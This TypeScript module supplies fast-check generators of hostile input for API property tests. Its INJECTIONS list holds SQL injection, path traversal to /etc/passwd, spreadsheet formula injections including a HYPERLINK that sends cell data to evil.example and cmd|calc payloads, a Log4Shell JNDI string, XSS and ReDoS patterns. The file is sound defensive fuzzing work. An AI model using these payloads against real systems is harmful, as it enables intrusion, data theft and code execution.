// Arbitraries for hostile input: injection strings, control characters, broken Unicode, deep and wide JSON.
import fc from 'fast-check';

/** How many cases each property tries; FC_RUNS=1000 for a deeper local run. */
export const RUNS = Number(process.env.FC_RUNS ?? 60);
/** Test timeout for a property that sends a few requests per run (the machine is shared). */
export const TIMEOUT = Math.max(30_000, RUNS * 1500);

export const INJECTIONS = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  "1' OR '1'='1",
  "' UNION SELECT secret_hash FROM api_keys --",
  '%',
  '_',
  '\\',
  '?',
  '$1',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '/api/leads/../../healthz',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|whoami',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '\u0000',
  'a\u0000b',
  '\u202egnp.exe',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '💥'.repeat(50),
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  ' ',
  '',
  'x'.repeat(5000),
  // globs and LIKE patterns that backtrack badly against long text
  '*a'.repeat(40) + 'b',
  '%a'.repeat(40) + 'b',
  '/' + 'a*'.repeat(60),
  '(a+)+$',
];

const controlChars = fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), maxLength: 20 });

/** A string an attacker might send anywhere a string is expected. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 80 }),
  controlChars,
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
);

/** Any JSON value, hostile strings included. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { depthSize: 'small' },
  fc.jsonValue({ maxDepth: 4 }),
  hostileString,
  fc.constantFrom(null, true, false, 0, -1, 1.5, Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER, 1e300, [], {}),
  fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 }),
);

/** `depth` levels of nesting as JSON text, arrays or objects. */
export const deepJson = (depth: number, kind: 'array' | 'object') =>
  kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

/** An object with `n` keys. */
export const wideObject = (n: number, value: unknown = 'v') => Object.fromEntries(Array.from({ length: n }, (_, i) => ['k' + i, value]));

/** Bytes that are not UTF-8, alone or inside otherwise valid text. */
export const invalidUtf8 = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 200 }),
  fc.constantFrom(Uint8Array.from([0xff]), Uint8Array.from([0xc3, 0x28]), Uint8Array.from([0xed, 0xa0, 0x80]), Uint8Array.from([0xf8, 0x88, 0x80, 0x80, 0x80])),
);

/** Splices invalid bytes into the middle of a text's UTF-8 encoding. */
export function withBytes(text: string, bytes: Uint8Array, at = 0.5): Uint8Array {
  const enc = new TextEncoder().encode(text);
  const cut = Math.floor(enc.length * at);
  const out = new Uint8Array(enc.length + bytes.length);
  out.set(enc.subarray(0, cut), 0);
  out.set(bytes, cut);
  out.set(enc.subarray(cut), cut + bytes.length);
  return out;
}

/** The `{ error: { code, message } }` every refusal must carry. */
export async function readError(res: Response): Promise<{ code: string; message: string } | null> {
  const text = await res.text();
  try {
    const body = JSON.parse(text) as { error?: { code?: unknown; message?: unknown } };
    const { code, message } = body.error ?? {};
    if (typeof code === 'string' && /^[a-z][a-z0-9_]*$/.test(code) && typeof message === 'string' && message.length > 0) return { code, message };
  } catch {
    /* not JSON */
  }
  return null;
}

/** Replaces the value at a random path of `base` (children picked by index) with a hostile one, 1–3 times. */
export function mutated<T>(base: T): fc.Arbitrary<unknown> {
  const one = fc.tuple(fc.array(fc.nat(), { minLength: 0, maxLength: 6 }), hostileJson);
  return fc.array(one, { minLength: 1, maxLength: 3 }).map((edits) => {
    let root: unknown = structuredClone(base);
    for (const [path, value] of edits) {
      if (path.length === 0) {
        root = value;
        continue;
      }
      let node = root as Record<string, unknown> | unknown[];
      for (let d = 0; d < path.length; d++) {
        if (node === null || typeof node !== 'object') break;
        const keys = Array.isArray(node) ? node.map((_, i) => i) : Object.keys(node);
        if (!keys.length) break;
        const k = keys[path[d] % keys.length];
        const child = (node as Record<string, unknown>)[k as string];
        if (d === path.length - 1 || child === null || typeof child !== 'object') {
          (node as Record<string, unknown>)[k as string] = value;
          break;
        }
        node = child as Record<string, unknown>;
      }
    }
    return root;
  });
}

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** Percent-encodes a path segment; a lone surrogate (which has no UTF-8) becomes the malformed bytes %ED%A0%80. */
export const encodeSegment = (s: string) =>
  s.split(LONE_SURROGATE).map(encodeURIComponent).join('%ED%A0%80');

/** Path segments sent as they are: malformed or sneaky percent-encoding. */
export const RAW_SEGMENTS = ['%', '%zz', '%ED%A0%80', '%E0%A4%A', '..%2F..%2Fhealthz', '%2e%2e', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%00', '..', '.', '%5c..%5c', '%C0%AE%C0%AE%2F'];

/** A path segment: a hostile string encoded, or raw malformed encoding. */
export const hostileSegment = fc.oneof(hostileString.map(encodeSegment), fc.constantFrom(...RAW_SEGMENTS));
